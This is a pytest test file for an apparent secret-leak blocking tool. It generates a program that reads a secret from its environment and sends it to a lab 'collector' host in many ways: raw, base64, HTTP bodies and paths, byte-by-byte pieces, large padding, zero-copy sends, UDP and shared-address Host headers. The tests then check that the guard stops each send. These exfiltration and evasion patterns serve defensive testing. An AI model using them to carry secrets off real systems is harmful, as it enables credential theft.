# SPDX-License-Identifier: MIT
"""A secret leaves in the open: inside TCP and UDP payload, however it is cut into pieces.

The program takes it from its environment, so its command line is clean.
"""

from __future__ import annotations

import base64
import subprocess
import sys
from collections.abc import Callable, Iterator
from functools import partial

import pytest

from lab import Lab, tokens
from lab.collector import Collector, Datagrams, Stream, longest_run
from lab.guard import FINDINGS, Guarded, assert_leak_stopped
from lab.network import COLLECTOR, HOME
from lab.tokens import Token

pytestmark = pytest.mark.root

Guard = Callable[..., Guarded]

PROGRAM = """\
import base64, os, socket, time
value = os.environ["{name}"].encode()
host, port = "{host}", {port}
post = b"POST /x HTTP/1.1\\r\\nHost: " + host.encode() + b"\\r\\nContent-Length: %d\\r\\n\\r\\n"
def tcp():
    conn = socket.create_connection((host, port), 10)
    conn.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return conn
def udp():
    conn = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    conn.connect((socket.gethostbyname(host), port))
    return conn
def in_pieces(conn, data, size):
    for at in range(0, len(data), size):
        conn.send(data[at:at + size])
        time.sleep(0.002)
try:
    {body}
except OSError:
    pass
time.sleep(1)
open("{mark}", "w").close()
"""
WHOLE = {
    "raw": 'tcp().sendall(b"hello " + value)',
    "base64": "tcp().sendall(base64.b64encode(value))",
    "http-body": "tcp().sendall(post % len(value) + value)",
    "http-target": 'tcp().sendall(b"GET /" + value + b" HTTP/1.1\\r\\nHost: " + host.encode())',
    "http-before-the-host": """conn = tcp()
    conn.send(b"GET /" + value + b" HTTP/1.1\\r\\n")
    time.sleep(0.05)
    conn.send(b"Host: " + host.encode() + b"\\r\\n\\r\\n")""",
    "after-8-mib": """conn = tcp()
    block = os.urandom(1 << 20)
    for _ in range(8):
        conn.sendall(block)
    conn.sendall(value)""",
    "in-a-write-of-64-mib": 'tcp().sendall(b"y" * (1 << 26) + value + b"z" * 99)',
    "sendfile": """open("upload", "wb").write(b"x" * 70001 + value + b"y" * 70000)
    tcp().sendfile(open("upload", "rb"))""",
    "zero-copy": """conn = tcp()
    conn.setsockopt(socket.SOL_SOCKET, 60, 1)
    conn.sendmsg([b"x" * 70001 + value], [], 0x4000000)""",
    "udp": "udp().send(value)",
    "udp-large": 'udp().send(b"x" * 9000 + value + b"y" * 9000)',
}
"""What goes out in one piece: no byte of the secret arrives."""
PIECES = {
    "byte-by-byte": "in_pieces(tcp(), value, 1)",
    "http-byte-by-byte": "in_pieces(tcp(), post % len(value) + value, 1)",
    "two-segments": """in_pieces(tcp(), b"x" * 5000 + value + b"y" * 4000, 5011)""",
    "udp-halves": "in_pieces(udp(), value, 20)",
    "udp-byte-by-byte": "in_pieces(udp(), value, 1)",
}
"""What is sent in pieces: the last one does not arrive."""
LAST = {
    "byte-by-byte": 1,
    "http-byte-by-byte": 1,
    "two-segments": 29,
    "udp-halves": 20,
    "udp-byte-by-byte": 1,
}
OFTEN = """conn = tcp()
    for _ in range(20):
        conn.send(value)
        time.sleep(0.002)"""
LOSSY = """conn = tcp()
    in_pieces(conn, os.urandom(60000) + value, 1234)
    conn.shutdown(socket.SHUT_WR)
    conn.settimeout(20)
    conn.recv(1)"""
LOSSY_BYTES = 60_040
BODIES = WHOLE | PIECES | {"often": OFTEN, "lossy": LOSSY}
PORT = 9000
RULES = ", ".join(f'"{kind}://{{host}}:{PORT}"' for kind in ("tcp", "udp"))


class Keeper(Stream):
    """Keeps what arrives, and says nothing."""

    def data_received(self, data: bytes) -> None:
        """Keep it."""
        self._seen.wire += data


@pytest.fixture
def hosts(lab: Lab) -> Iterator[dict[str, Collector]]:
    hosts = {"collector.test": lab.collector, "home.test": lab.home}
    for host, addresses in zip(hosts.values(), (COLLECTOR, HOME), strict=True):
        lab.listen(
            [],
            bound=addresses,
            tcp={PORT: partial(Keeper, host)},
            udp={PORT: partial(Datagrams, host)},
        )
    return hosts


def sender(lab: Lab, token: Token, body: str, host: str) -> list[str]:
    program = lab.directory / "send.py"
    values = {"name": token.name, "host": host, "port": PORT, "body": BODIES[body]}
    program.write_text(PROGRAM.format(**values, mark=lab.directory / "survived"))
    return [sys.executable, str(program)]


def received(host: Collector, token: Token) -> int:
    """How much of the secret arrived; it stands near the end, datagrams put together."""
    data = b"".join(seen.wire[-200_000:] for seen in host.connections)
    if base64.b64encode(token.value.encode()) in data:
        return len(token.value)
    return longest_run(token.value.encode(), [data])


@pytest.mark.parametrize("body", sorted(WHOLE | PIECES))
def test_unguarded_all_of_it_arrives(
    lab: Lab, hosts: dict[str, Collector], secret: Token, body: str
) -> None:
    lab.run(sender(lab, secret, body, "collector.test"), env=secret.env)
    assert received(hosts["collector.test"], secret) == len(secret.value)


@pytest.mark.parametrize("mode", ["audit", "block"])
@pytest.mark.parametrize("body", sorted(WHOLE | PIECES))
def test_guarded_it_is_stopped(
    lab: Lab, leakstop: Guard, hosts: dict[str, Collector], secret: Token, mode: str, body: str
) -> None:
    """In block mode the host is allowed, so that only the secret stops it."""
    rules = f"allow: [{RULES.format(host='collector.test')}]\n" if mode == "block" else ""
    run = leakstop(
        sender(lab, secret, body, "collector.test"),
        mode=mode,
        policy=f"version: 1\n{rules}",
        secrets=[secret],
    )
    arrived = received(hosts["collector.test"], secret)
    assert arrived == (0 if body in WHOLE else len(secret.value) - LAST[body])
    assert not (lab.directory / "survived").exists(), "the process was not killed"
    assert_leak_stopped(run, secret, finding="secret-in-payload", program="python", destination="")


@pytest.mark.parametrize("mode", ["audit", "block"])
@pytest.mark.parametrize("body", sorted(WHOLE | PIECES))
def test_guarded_it_reaches_its_home(
    lab: Lab, leakstop: Guard, hosts: dict[str, Collector], secret: Token, mode: str, body: str
) -> None:
    home = RULES.format(host="home.test")
    run = leakstop(
        sender(lab, secret, body, "home.test"),
        mode=mode,
        policy=f"version: 1\nallow: [{home}]\nsecrets: {{{secret.name}: [{home}]}}\n",
        secrets=[secret],
    )
    assert received(hosts["home.test"], secret) == len(secret.value)
    assert (run.code, run.findings()) == (0, []), run.stderr
    assert run.shows(secret) == []


@pytest.mark.parametrize(
    ("policy", "carriage"),
    [
        ("", "warn"),
        (f"allow: [{RULES.format(host='collector.test')}]\n", "note"),
        ("leak: fail\nsecrets: {{{name}: home.test}}\n", "fail"),
    ],
    ids=["unplaced", "unplaced-to-a-named-host", "leak-fail"],
)
def test_what_is_let_go_is_told_once(
    lab: Lab, leakstop: Guard, hosts: dict[str, Collector], policy: str, carriage: str
) -> None:
    token = tokens.home_made()
    run = leakstop(
        sender(lab, token, "often", "collector.test"),
        mode="audit",
        policy="version: 1\n" + policy.format(name=token.name),
        secrets=[token],
    )
    assert received(hosts["collector.test"], token) == len(token.value)
    assert (lab.directory / "survived").exists()
    (event,) = run.events("write")
    assert (event["carriage"], event["applied"], event["channel"]) == (carriage, "allow", "tcp")
    assert run.code == (FINDINGS if carriage == "fail" else 0), run.stderr
    assert run.shows(token) == []


LOSS = (
    "table inet loss { chain input { type filter hook input priority 0; "
    f"tcp dport {PORT} tcp flags & psh == psh numgen random mod 4 0 counter drop; }}; }}"
)
"""A segment with data in four does not arrive, and is sent again."""


@pytest.mark.parametrize("host", ["collector.test", "home.test"])
def test_segments_that_are_sent_again(
    lab: Lab, leakstop: Guard, hosts: dict[str, Collector], secret: Token, host: str
) -> None:
    lab.services.call(lambda: subprocess.run(["nft", LOSS], check=True))
    home = RULES.format(host="home.test")
    run = leakstop(
        sender(lab, secret, "lossy", host),
        mode="audit",
        policy=f"version: 1\nsecrets: {{{secret.name}: [{home}]}}\n",
        secrets=[secret],
    )
    shown = lab.services.call(lambda: subprocess.check_output(["nft", "list", "ruleset"]))
    assert b"counter packets" in shown and b"counter packets 0 " not in shown
    arrived = hosts[host].connections[0].wire
    if host == "home.test":
        assert (run.code, run.findings()) == (0, []), run.stderr
        assert arrived.endswith(secret.value.encode()) and len(arrived) == LOSSY_BYTES
    else:
        assert secret.value.encode() not in arrived
        assert_leak_stopped(
            run, secret, finding="secret-in-payload", program="python", destination=""
        )


SHARED = {
    "host-comes-later": """conn = tcp()
    conn.send(b"GET /" + value + b" HTTP/1.1\\r\\n")
    time.sleep(0.05)
    conn.send(b"Host: shared.test\\r\\n\\r\\n")""",
    "two-hosts-in-a-segment": """first = b"POST / HTTP/1.1\\r\\nHost: shared.test\\r\\n"
    first += b"Content-Length: %d\\r\\n\\r\\n" % len(value) + value
    tcp().send(first + b"GET / HTTP/1.1\\r\\nHost: home.test\\r\\n\\r\\n")""",
    "ends-with-another-host": """conn = tcp()
    conn.send(b"POST / HTTP/1.1\\r\\nHost: shared.test\\r\\nContent-Length: 40\\r\\n\\r\\n")
    time.sleep(0.05)
    conn.send(value + b"GET / HTTP/1.1\\r\\nHost: home.test\\r\\n\\r\\n")""",
}


@pytest.mark.parametrize("body", sorted(SHARED))
def test_a_home_lends_its_address_to_nobody(
    lab: Lab, leakstop: Guard, hosts: dict[str, Collector], secret: Token, body: str
) -> None:
    """Another allowed host has the same address; the request is for that one."""
    lab.dns.zone["shared.test"] = HOME
    rules = f"[http://home.test:{PORT}, http://shared.test:{PORT}]"
    values = {"name": secret.name, "host": "home.test", "port": PORT, "body": SHARED[body]}
    program = lab.directory / "send.py"
    text = PROGRAM.format(**values, mark=lab.directory / "survived")
    program.write_text(text.replace("try:", 'socket.gethostbyname("shared.test")\ntry:'))
    run = leakstop(
        [sys.executable, str(program)],
        mode="block",
        policy=f"version: 1\nallow: {rules}\nsecrets: {{{secret.name}: home.test:{PORT}}}\n",
        secrets=[secret],
    )
    if body == "host-comes-later":  # by then it looked as if it was at home
        assert not hosts["home.test"].received(b"shared.test")
    else:
        assert hosts["home.test"].bytes_of(secret.value.encode()) == 0
    assert_leak_stopped(run, secret, finding="secret-in-payload", program="python", destination="")
